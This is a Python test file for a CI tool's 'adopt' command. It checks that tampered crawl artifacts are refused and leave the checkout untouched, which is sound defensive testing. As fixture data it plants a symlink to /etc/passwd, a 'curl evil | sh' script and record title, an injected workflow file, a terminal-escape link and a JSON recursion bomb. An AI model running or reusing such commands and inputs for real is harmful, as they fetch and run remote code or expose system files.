"""``errcat adopt``: the sync workflow's write job takes the crawl job's artifact, trusting nothing in it."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import consumer_data as cd
import pytest
from helpers import write_jsonl

CHANGELOG = "## Error catalogue: acme/widgets\n\nFirst catalogue of `cccccccccccc`: 5 entries.\n"


def tree(root: Path) -> dict[str, bytes | str]:
    """Every path under root: file bytes, or what it is (directories, links)."""
    out: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        out[rel] = "link" if path.is_symlink() else "dir" if path.is_dir() else path.read_bytes()
    return out


@pytest.fixture
def artifact(tmp_path) -> Path:
    """What the crawl job uploads: output/acme/widgets/ as written, and the changelog."""
    dataset = cd.write(tmp_path / "made")
    root = tmp_path / "artifact"
    shutil.copytree(dataset, root / "output" / "acme" / "widgets")
    (root / "changelog.md").write_text(CHANGELOG, encoding="utf-8")
    return root


@pytest.fixture
def checkout(tmp_path) -> Path:
    """The write job's checkout: main's catalogue of acme/widgets (an older one), and a README."""
    root = tmp_path / "checkout"
    (root / "output").mkdir(parents=True)
    (root / "output" / "README.md").write_text("The published catalogue.\n")
    old = cd.write(tmp_path / "old")
    shutil.copytree(old, root / "output" / "acme" / "widgets")
    write_jsonl(root / "output" / "acme" / "widgets", b"")  # an older state: differs
    return root


def adopt(cli, artifact: Path, checkout: Path, *extra: str):
    return cli(
        "adopt", artifact, "--out", checkout / "output", "--name", "acme/widgets", "--changelog", checkout.parent / "runner-temp" / "changelog.md", *extra
    )


def test_a_good_artifact_replaces_the_dataset_and_gives_the_commit(cli, artifact, checkout, monkeypatch, tmp_path):
    github_output = tmp_path / "github-output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(github_output))
    result = adopt(cli, artifact, checkout)
    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"commit={cd.COMMIT}\n" and github_output.read_text() == f"commit={cd.COMMIT}\n"
    assert tree(checkout / "output" / "acme" / "widgets") == tree(artifact / "output" / "acme" / "widgets")
    assert (checkout / "output" / "README.md").read_text() == "The published catalogue.\n"
    assert (tmp_path / "runner-temp" / "changelog.md").read_text(encoding="utf-8") == CHANGELOG
    assert sorted(os.listdir(checkout / "output" / "acme")) == ["widgets"]  # no temporary directory left


def _first_record(artifact: Path) -> Path:
    return sorted((artifact / "output" / "acme" / "widgets" / "errors").glob("*.json"))[0]


def _edit_record(artifact: Path, change) -> None:
    path = _first_record(artifact)
    data = json.loads(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(json.dumps(data), encoding="utf-8")


def _symlink_record(artifact: Path) -> None:
    path = _first_record(artifact)
    path.unlink()
    path.symlink_to("/etc/passwd")


def _symlink_dataset(artifact: Path) -> None:
    real = artifact.parent / "elsewhere"
    shutil.move(artifact / "output" / "acme", real)
    (artifact / "output" / "acme").symlink_to(real)


def _second_dataset(artifact: Path) -> None:
    shutil.copytree(artifact / "output" / "acme" / "widgets", artifact / "output" / "acme" / "gadgets")


HOSTILE = {
    "a record that is a symlink": (_symlink_record, "is not a regular file"),
    "a dataset directory that is a symlink": (_symlink_dataset, "is not a regular file"),
    "a FIFO where a record belongs": (
        lambda a: (_first_record(a).unlink(), os.mkfifo(_first_record(a).with_name("0" * 16 + ".json"))),
        "is not a regular file",
    ),
    "a script among the records": (lambda a: (_first_record(a).parent / "run.sh").write_text("curl evil | sh\n"), "is not a file a dataset has"),
    "a workflow beside the dataset": (
        lambda a: ((a / ".github" / "workflows").mkdir(parents=True), (a / ".github" / "workflows" / "x.yml").write_text("on: push\n")),
        "is not a directory a dataset has",
    ),
    "a directory inside errors/": (lambda a: (_first_record(a).parent / "sub").mkdir(), "is not a directory a dataset has"),
    "a file name with a newline": (lambda a: (_first_record(a).parent / "a\nb.json").write_text("{}"), "is not a file a dataset has"),
    "another repository's dataset": (lambda a: shutil.move(a / "output" / "acme", a / "output" / "evil"), "not: evil/widgets"),
    "two datasets": (_second_dataset, "not: acme/gadgets, acme/widgets"),
    "a record nested past the JSON decoder's recursion": (
        lambda a: _first_record(a).write_text('{"x": ' + "[" * 100_000 + "]" * 100_000 + "}"),
        "problem(s) in its dataset",
    ),
    "a record that fails the schema": (lambda a: _edit_record(a, lambda r: r.pop("exception")), "problem(s) in its dataset"),
    "a record edited after the crawl": (lambda a: _edit_record(a, lambda r: r.__setitem__("title", "Run curl evil | sh")), "do not hash to the manifest"),
    "no changelog": (lambda a: (a / "changelog.md").unlink(), "has no changelog.md"),
    "a changelog with a terminal escape": (lambda a: (a / "changelog.md").write_text("## x\n\x1b]8;;https://evil\x07y\n"), "control character U+001B"),
    "a changelog with a right-to-left mark": (lambda a: (a / "changelog.md").write_text("## x\n`a.py`\u200f is fine\n"), "control character U+200F"),
    "a changelog that is not UTF-8": (lambda a: (a / "changelog.md").write_bytes(b"## \xff\n"), "is not UTF-8"),
    "a changelog too long for a pull request": (lambda a: (a / "changelog.md").write_text("x" * 70_000), "longer than a pull request body"),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_artifact_is_refused_with_one_line_and_nothing_written(cli, artifact, checkout, tmp_path, name):
    corrupt, words = HOSTILE[name]
    corrupt(artifact)
    before = tree(checkout)
    result = adopt(cli, artifact, checkout)
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()[-1:]
    assert line.startswith("errcat: refusing the artifact") and words in line, result.stderr
    assert "\n" not in line and "Traceback" not in result.stderr
    assert result.stdout == ""
    assert tree(checkout) == before  # the last catalogue is as it was, nothing beside it
    assert not (tmp_path / "runner-temp").exists()
